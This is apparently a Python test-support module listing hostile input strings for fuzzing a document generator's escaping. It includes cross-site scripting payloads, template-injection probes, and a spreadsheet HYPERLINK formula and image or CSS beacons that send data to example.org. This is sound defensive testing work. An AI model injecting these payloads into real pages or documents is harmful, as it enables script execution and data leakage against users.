"""The hostile strings: a small list of our own, and the corpus where it stands beside this repository."""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from briefgen.load.yaml import CONTROL

CORPORA = Path(__file__).resolve().parents[3] / "shared" / "corpora"
NO_CORPORA = "the corpora of hostile input do not stand beside this repository"

OWN = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "</textarea></noscript></style><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a href=javascript:alert(1)><text y=20>x",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='x' onmouseover=alert(1)>x</a>",
    "<base href=https://example.org/><link rel=stylesheet href=https://example.org/x.css>",
    "<meta http-equiv=refresh content='0;url=https://example.org/'>",
    "<form action=https://example.org/><button>x",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<span style='background:url(https://example.org/beacon)'>x</span>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#60;b&#62;",
    "[x](javascript:alert(1))",
    "[x]( java&#115;cript:alert(1))",
    "![x](https://example.org/beacon.png)",
    "<javascript:alert(1)>",
    "x {: onclick=alert(1) .mermaid #top }",
    "# heading {#__search}",
    "| a | b |",
    "- item *a* **b** `c` ~~d~~",
    "${alert(1)} `${alert(1)}` %{customdata[0]} %{x}",
    "{{7*7}} {% raw %} {{ config.__class__ }} #{7*7} <%= 7*7 %>",
    "'-alert(1)-' \\'-alert(1)-\\' \";alert(1)//",
    "$\\href{javascript:alert(1)}{x}$",
    '=HYPERLINK("https://example.org/?"&A1,"x")',
    "javascript:alert(1)",
    "__proto__",
    "undefined",
    "عملية <b onclick=alert(1)>x",
    "日本 \U0001f6f0\ufe0f e\u0301 ﬁ",
)  # fmt: skip
"""Own work: one for each way out of a place that we know of."""

SHOWN_AS_A_SPACE = re.compile(r"\s+")
SET_APART = re.compile("[\u2066-\u2069\u200b]")
"""What the page adds around words that read from right to left, and where a long word may break."""


@dataclass(frozen=True)
class Hostile:
    """A hostile string and the lists it comes from."""

    text: str
    sources: tuple[str, ...] = ("own",)


@cache
def own() -> tuple[Hostile, ...]:
    return tuple(map(Hostile, OWN))


@cache
def corpus() -> tuple[Hostile, ...]:
    """Every string of the corpus; none where it does not stand there."""
    path = CORPORA / "hostile-strings.jsonl"
    if not path.is_file():
        return ()
    entries = map(json.loads, path.read_text("utf-8").splitlines())
    return tuple(Hostile(entry["s"], tuple(entry["sources"])) for entry in entries)


def some(count: int) -> tuple[Hostile, ...]:
    """Our own, and so many of the corpus, from all over it: all of it where it has fewer."""
    every = corpus()
    step = max(1, -(-len(every) // count)) if count else 1
    return (*own(), *every[::step][:count])


def mixed(found: Sequence[Hostile]) -> tuple[Hostile, ...]:
    """The same in an order in which each part has some of every list, so that half a run says something of all."""
    return tuple(one for start in range(17) for one in found[start::17])


def is_refused(text: str) -> bool:
    """Whether the loader must refuse a text whatever the field: it holds what hides or reorders text, or is none."""
    return CONTROL.search(text) is not None


def is_line(text: str) -> bool:
    """Whether a text can be a line of text."""
    return not is_refused(text) and bool(text.strip()) and not re.search(r"[\n\r]", text.rstrip("\n"))


def seen(text: str) -> str:
    """Text as a reader sees it, worked out without the code under test: white space as one space, marks left out."""
    text = SHOWN_AS_A_SPACE.sub(" ", SET_APART.sub("", text))
    return "".join("\ufffd" if _is_no_text(character) else character for character in text).strip(" ")


def _is_no_text(character: str) -> bool:
    code = ord(character)
    return (
        unicodedata.category(character) in ("Cc", "Cs")
        or 0xFDD0 <= code <= 0xFDEF
        or code & 0xFFFE == 0xFFFE
        or character in "\ufff9\ufffa\ufffb"
    )


def by_source(found: Iterable[Hostile], every: Sequence[Hostile]) -> dict[str, tuple[int, int]]:
    """For each list, how many of its strings are among `found`, and how many it has."""
    hits = {one.text for one in found}
    counted: dict[str, tuple[int, int]] = {}
    for one in every:
        for source in one.sources:
            hit, total = counted.get(source, (0, 0))
            counted[source] = (hit + (one.text in hits), total + 1)
    return counted
